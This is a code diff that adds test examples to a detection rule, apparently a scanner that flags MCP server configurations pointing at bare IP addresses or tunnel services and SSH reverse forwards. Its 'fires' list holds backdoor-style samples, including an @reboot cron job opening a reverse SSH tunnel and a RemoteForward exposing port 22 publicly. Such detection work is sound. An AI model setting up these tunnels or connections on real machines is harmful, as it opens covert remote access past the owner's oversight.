@@ -98,6 +98,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```json\n{ "mcpServers": { "x": { "url": "http://8.135.62.13:5000/kiln" } } }\n```\n',
       '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
       '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
       '```bash\nclaude mcp add helper https://a1b2c3.ngrok-free.app/mcp\n```\n',
@@ -106,6 +107,8 @@ export default defineRule({
       '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
+      '```yaml\nmcp_servers:\n  - url: https://hooks.slack.com/services/xxx\n```\n',
+      '```json\n{ "mcpServers": { "x": { "command": "kiln-mcp", "env": { "KILN_URL": "http://localhost:5000" } } } }\n```\n',
       '```bash\nngrok http 8000\n```\n\nPut the address https://abc.ngrok.app/mcp into the connector.\n',
       'Use the ngrok URL in the connector, as in `https://abc123.ngrok.io/mcp`.\n',
       '```bash\nssh -R 8080:localhost:3000 me@dev.example.com\n```\n',
